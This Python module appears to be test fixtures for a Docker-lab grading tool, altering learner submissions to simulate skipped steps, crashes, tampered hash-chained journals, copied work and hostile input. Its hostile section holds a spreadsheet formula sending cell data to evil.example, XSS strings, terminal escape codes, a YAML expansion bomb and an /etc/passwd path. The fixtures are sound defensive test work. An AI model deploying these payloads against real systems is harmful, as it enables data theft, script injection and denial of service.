"""What learners do otherwise than the sample, and what becomes of what they hand in."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

from class_recording import JOURNAL, LISTENS, Seen, Submission

from grader.journal import GENESIS, MAX_LINE_BYTES, parse

Edit = Callable[[Submission], None]

LONG_ANSWER = 300_000
DEEP = 20_000


def as_it_was(_: Submission) -> None:
    """The lab was done as it should be."""


# What was not done, or done otherwise


def stopped_early(it: Submission) -> None:
    first = it.recorded[0]["run"]
    it.drop(lambda seen: bool(seen["run"] != first))


def wrong_port(it: Submission) -> None:
    _change_containers(it, ports=[{"container": "8000/tcp", "host": "9090"}])


def no_env_file(it: Submission) -> None:
    _change_containers(it, env={"PATH": "image", "LANG": "image"})


def foreground(it: Submission) -> None:
    _change_containers(it, detached=False)
    for start in it.events("start"):
        just_before = datetime.fromisoformat(start["at"]) - timedelta(milliseconds=1)
        attach = {
            **start,
            "at": just_before.isoformat(),
            "data": {**start["data"], "action": "attach"},
        }
        it.recorded.insert(it.recorded.index(start), attach)


def no_push(it: Submission) -> None:
    it.answer(_of("manifest"), "absent", "not-there")
    it.drop(lambda seen: _action(seen) in {"push", "pull"} or seen is it.events("untag")[0])
    for image in it.found("image"):
        image["digests"] = []


def no_tag(it: Submission) -> None:
    no_push(it)
    it.drop(lambda seen: _action(seen) == "tag" and seen["data"]["name"] == it.image)
    it.answer(lambda seen: it.image in seen["need"].get("image", ""), "absent", "not-there")
    for image in it.found("image"):
        image["tags"] = ["wisheasy:1.0"]
    _change_containers(it, image="wisheasy:1.0")
    for seen in it.recorded:
        if seen.get("data", {}).get("type") == "container":
            seen["data"]["image"] = "wisheasy:1.0"


def no_answers(it: Submission) -> None:
    it.answers = dict.fromkeys(it.answers, "")


def misconception(it: Submission) -> None:
    it.answers["vm-vs-container"] += " VM과 컨테이너는 둘 중 하나만 써야 한다."


def secret_in_image(it: Submission) -> None:
    it.files[".dockerignore"] = b".git\n.venv\n"
    for tree in it.found("content"):
        tree["files"][".env"] = ""


def other_source(it: Submission) -> None:
    it.files["app.py"] = it.text("app.py") + b"# changed after the build\n"


def crashed(it: Submission) -> None:
    """It crashed at its start, and was removed."""
    started = it.events("start")[0]["at"]
    soon = (datetime.fromisoformat(started) + timedelta(seconds=1)).isoformat()
    _change_containers(it, status="exited", exit_code=1, finished=soon)
    for log in it.found("logs"):
        log |= {"stdout": "", "stderr": "Traceback (most recent call last):\nKeyError: 'PORT'\n"}
    it.answer(_of("http"), "absent", "not-running")
    it.drop(lambda seen: _action(seen) in {"exec_die", "kill", "stop", "die"})
    died = it.events("exec_start")[0]
    died["at"] = soon
    died["data"] |= {"action": "die", "exit_code": 1, "command": ""}


def engine_out_of_reach(it: Submission) -> None:
    it.drop(_of("events"))
    unreachable = "unavailable", "engine-unreachable"
    it.answer(lambda seen: seen["source"] in {"engine", "http", "events"}, *unreachable)
    it.answer(_of("manifest"), *unreachable)


# What was broken


def cut_short(it: Submission) -> None:
    """The last line is torn: it tells only how far the history reached."""
    it.write()
    it.files[JOURNAL] = it.text(JOURNAL)[:-40]


def altered(it: Submission) -> None:
    it.write()
    it.files[JOURNAL] = it.text(JOURNAL).replace(b'"status":200', b'"status":201', 1)


def without_a_line(it: Submission) -> None:
    it.write()
    lines = it.text(JOURNAL).splitlines(keepends=True)
    it.files[JOURNAL] = b"".join(line for line in lines if b'"action":"exec_' not in line)


def no_journal(it: Submission) -> None:
    it.write()
    del it.files[JOURNAL]


def binary_journal(it: Submission) -> None:
    it.files[JOURNAL] = it.random.randbytes(5000).replace(b"\n", b"") + b"\n"


def no_lab_file(it: Submission) -> None:
    it.write()
    del it.files["lab.yaml"]


def broken_yaml(it: Submission) -> None:
    it.files["lab.yaml"] = b'rubric: container-and-docker\nlearner: {id: "s-1", name: [\n'


def unknown_variable(it: Submission) -> None:
    it.lab["variables"]["hubid"] = it.person.hub_id


def no_dockerfile(it: Submission) -> None:
    it.write()
    del it.files["Dockerfile"]


def empty_folder(it: Submission) -> None:
    it.write()
    it.files.clear()


# What was meant to do harm


def formula_name(it: Submission) -> None:
    it.lab["learner"]["name"] = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def script(it: Submission) -> None:
    harm = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    it.lab["learner"]["name"] = harm
    it.answers = {name: f"{text} {harm}" for name, text in it.answers.items()}


def terminal_escapes(it: Submission) -> None:
    harm = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\u202e"
    for log in it.found("logs"):
        log["stdout"] = f"{harm}\n{LISTENS}{it.person.hub_id}\n"
    it.answers["log-line"] = f"{harm} {it.answers['log-line']}"


def long_line(it: Submission) -> None:
    it.write()
    it.files[JOURNAL] = it.text(JOURNAL) + b"x" * (MAX_LINE_BYTES + 1) + b"\n"


def long_answer(it: Submission) -> None:
    it.answers["find-error"] += " 컨테이너" * LONG_ANSWER


def deep_yaml(it: Submission) -> None:
    it.files["lab.yaml"] = b"learner: " + b"[" * DEEP


def yaml_bomb(it: Submission) -> None:
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    it.files["lab.yaml"] = "\n".join(levels).encode()


def wrong_types(it: Submission) -> None:
    """Well-chained entries whose facts are no facts."""
    for logs in it.found("logs"):
        logs["stdout"] = ["a", {"b": None}]
    for response in it.found("http"):
        response["status"] = "two hundred"


def wrong_entries(it: Submission) -> None:
    """Lines with right hashes that are no entries."""
    it.write()
    own: list[Any] = [{"v": 1, "seq": [], "run": {}}, {"v": None}, {"v": 1, "need": {"kind": 7}}]
    it.files[JOURNAL] = it.text(JOURNAL) + _chained(own, parse(it.text(JOURNAL)).head)


def newer_version(it: Submission) -> None:
    it.write()
    it.files[JOURNAL] = _chained([{"v": 2, "seq": 1, "shape": "unknown"}], GENESIS)


def clock_runs_backwards(it: Submission) -> None:
    """The second look is dated hours before the first."""
    first = it.recorded[0]["run"]
    for seen in it.recorded:
        if seen["run"] != first and seen["source"] != "events":
            seen["at"] = (datetime.fromisoformat(seen["at"]) - timedelta(hours=5)).isoformat()


def leads_out(it: Submission) -> None:
    it.files["lab.yaml"] = Path("/etc/passwd")


# What was copied


def copied_journal(it: Submission, original: Submission) -> None:
    """All is another's but the name."""
    original.write()
    it.lab["variables"] = original.lab["variables"]
    it.files = {**original.files, "lab.yaml": json.dumps(it.lab, ensure_ascii=False).encode()}


def copied_answers(it: Submission, original: Submission) -> None:
    """Answers of another, with a word changed here and there; the lab is one's own."""
    for question in ("vm-vs-container", "dockerfile", "find-error"):
        text = original.answers[question].replace("다시", "또다시").replace("again", "once more")
        it.answers[question] = f"{text} {it.random.randrange(10)}"


def other_name(it: Submission, original: Submission) -> None:
    """Handed in under another learner's id."""
    it.lab["learner"]["id"] = original.person.id


def _change_containers(it: Submission, **fields: object) -> None:
    for container in it.found("container"):
        container.update(fields)


def _of(kind: str) -> Callable[[Seen], bool]:
    return lambda seen: bool(seen["need"]["kind"] == kind)


def _action(seen: Seen) -> str:
    return str(seen.get("data", {}).get("action", ""))


def _chained(entries: list[Any], head: str) -> bytes:
    """Lines that the journal's own writer would not write."""
    lines = b""
    for entry in entries:
        body = json.dumps({"prev": head, **entry}, separators=(",", ":")).encode()[1:]
        head = sha256(body).hexdigest()
        lines += b'{"hash":"%s",%s\n' % (head.encode(), body)
    return lines
